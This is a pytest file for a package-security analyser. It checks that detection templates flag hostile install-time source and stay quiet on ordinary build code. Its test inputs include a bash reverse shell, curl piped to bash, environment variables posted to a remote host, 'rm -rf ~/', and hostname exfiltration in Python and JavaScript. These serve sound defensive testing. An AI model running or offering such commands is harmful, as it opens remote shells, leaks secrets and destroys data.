"""The chains of artifacts: real source through the readers, the table of templates, and any facts at all."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.chains import TEMPLATES, find_chains
from pratique.analysis.chains.chain import ChainFamily, Link
from pratique.analysis.chains.template import Template
from pratique.analysis.context import Context
from pratique.analysis.facts import (
    Address,
    Capability,
    Command,
    FileFacts,
    Flow,
    Hidden,
    HiddenKind,
    Import,
    Language,
    Payload,
    PayloadKind,
    Taint,
    Use,
)
from pratique.analysis.languages import readers
from pratique.core.tree import File
from tests.analysis.chains.making import contents

TEXTS = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "requests.post",
            "open",
            "exec",
            "curl",
            "*",
            "~",
            "https://pastebin.com/raw/x",
            "rm -rf /",
            ".npmrc",
        ]
    ),
)
LINES = st.integers(0, 50)
FACTS = st.builds(
    FileFacts,
    language=st.sampled_from(Language),
    imports=st.lists(st.builds(Import, TEXTS, LINES, st.booleans()), max_size=3).map(tuple),
    uses=st.lists(
        st.builds(Use, st.sampled_from(Capability), TEXTS, LINES, st.booleans(), TEXTS | st.none(), LINES, LINES),
        max_size=20,
    ).map(tuple),
    flows=st.lists(
        st.builds(
            Flow,
            st.sampled_from(Capability),
            TEXTS,
            LINES,
            LINES,
            st.lists(st.sampled_from(Taint), unique=True).map(tuple),
            st.booleans(),
            target=TEXTS | st.none(),
        ),
        max_size=10,
    ).map(tuple),
    addresses=st.lists(st.builds(Address, TEXTS, LINES, st.booleans()), max_size=4).map(tuple),
    hidden=st.lists(st.builds(Hidden, st.sampled_from(HiddenKind), LINES, LINES, TEXTS), max_size=2).map(tuple),
    commands=st.lists(
        st.builds(Command, TEXTS, st.lists(TEXTS, max_size=4).map(tuple), LINES, piped_from=TEXTS | st.none()),
        max_size=4,
    ).map(tuple),
    payloads=st.lists(
        st.builds(Payload, st.sampled_from(PayloadKind), LINES, LINES, st.booleans()), max_size=3
    ).map(tuple),
)  # fmt: skip


def of_source(source: str, language: Language, path: str = "a") -> set[str]:
    facts = readers.read(File(path, source.encode()), language)
    return {chain.template for chain in find_chains(contents({"a.py": facts}, a=Context.INSTALL))}


@pytest.mark.parametrize(
    ("language", "source", "expected"),
    [
        (
            Language.PYTHON,
            "import base64\nexec(base64.b64decode('" + "cHJpbnQoMSk7" * 40 + "'))\n",
            "decoded-constant-run",
        ),
        (
            Language.PYTHON,
            "import requests, socket\nrequests.post('https://far.invalid', data=socket.gethostname())\n",
            "identity-sent",
        ),
        (
            Language.PYTHON,
            "import os, requests\nopen('x.exe', 'wb').write(requests.get('https://far.invalid/x.exe').content)\nos.startfile('x.exe')\n",
            "download-started",
        ),
        (
            Language.JAVASCRIPT,
            "const https = require('https'), os = require('os');\nhttps.get('https://inert.oastify.com/?h=' + os.hostname());\n",
            "callback-host-told",
        ),
        (
            Language.JAVASCRIPT,
            "require('child_process').exec('curl -s https://far.invalid/x | sh');\n",
            "download-piped-to-interpreter",
        ),
        (Language.SHELL, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "shell-tool-connected"),
        (Language.SHELL, "curl -fsSL https://far.invalid/x.sh | bash\n", "download-piped-to-interpreter"),
        (Language.SHELL, 'curl -d "$(env)" https://far.invalid/x\n', "environment-dumped"),
        (Language.SHELL, "rm -rf ~/\n", "home-or-root-deleted"),
    ],
)
def test_inert_source_is_told(language: Language, source: str, expected: str) -> None:
    assert expected in of_source(source, language)


@pytest.mark.parametrize(
    ("language", "source"),
    [
        (Language.PYTHON, "import base64\nLOGO = base64.b64decode('" + "QUJD" * 80 + "')\n"),
        (Language.PYTHON, "import requests\ndef get(url):\n    return requests.get(url).json()\n"),
        (
            Language.PYTHON,
            "from setuptools import setup\nexec(open('sample/version.py').read())\nsetup(name='sample')\n",
        ),
        (
            Language.JAVASCRIPT,
            "const https = require('https');\nmodule.exports = (url, cb) => https.get(url, cb);\n",
        ),
        (
            Language.JAVASCRIPT,
            "const { execSync } = require('child_process');\nexecSync('node-gyp rebuild');\n",
        ),
        (Language.SHELL, "set -e\ncd build\nrm -rf build/tmp\ncmake .. && make\n"),
    ],
)
def test_ordinary_source_is_quiet(language: Language, source: str) -> None:
    assert set() == of_source(source, language)


def test_there_are_templates_of_every_family_with_ids_of_their_own() -> None:
    assert set(ChainFamily) == {template.family for template in TEMPLATES}
    assert len(TEMPLATES) == len({template.id for template in TEMPLATES})
    assert len(TEMPLATES) >= 45


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda template: template.id)
def test_a_template_reads_well(template: Template) -> None:
    assert re.fullmatch(r"[a-z]+(-[a-z]+)*", template.id)
    assert re.fullmatch(r"[a-z][^.]*", template.words)
    assert template.seen or template.gained is None, "a chain that nothing was seen to show holds no upgrade"


@pytest.mark.fuzz
@given(st.dictionaries(st.sampled_from(["a.py", "b.py", "c.py"]), FACTS), st.sampled_from(Context))
def test_any_facts_give_chains(files: dict[str, FileFacts], context: Context) -> None:
    found = find_chains(contents(files, a=context), frozenset({"far.invalid"}))
    kinds = {template.id for template in TEMPLATES}
    assert all(chain.template in kinds and chain.link in Link and chain.places for chain in found)
    single = [
        (chain.template, chain.places[0].path) for chain in found if len({p.path for p in chain.places}) == 1
    ]
    assert len(single) == len(set(single))
    assert not [chain for chain in found if chain.context is Context.AUXILIARY]


def seconds(count: int) -> float:
    uses = tuple(
        Use(
            capability,
            f"api{number % 7}",
            number,
            number % 2 == 0,
            f"https://h{number}.invalid/x",
            scope=number % 50,
        )
        for number in range(count)
        for capability in Capability
    )
    flows = tuple(
        Flow(Capability.NETWORK, "x", n, n, (Taint.ENVIRONMENT, Taint.FILE), False) for n in range(count)
    )
    artifact = contents({"a.py": FileFacts(language=Language.PYTHON, uses=uses, flows=flows)})
    start = time.process_time()
    find_chains(artifact)
    return time.process_time() - start


def test_thousands_of_facts_are_not_held_against_each_other_one_by_one() -> None:
    """2,000 uses of each capability are 24,000 in one file: pair by pair they would take many minutes."""
    assert seconds(2_000) < 20
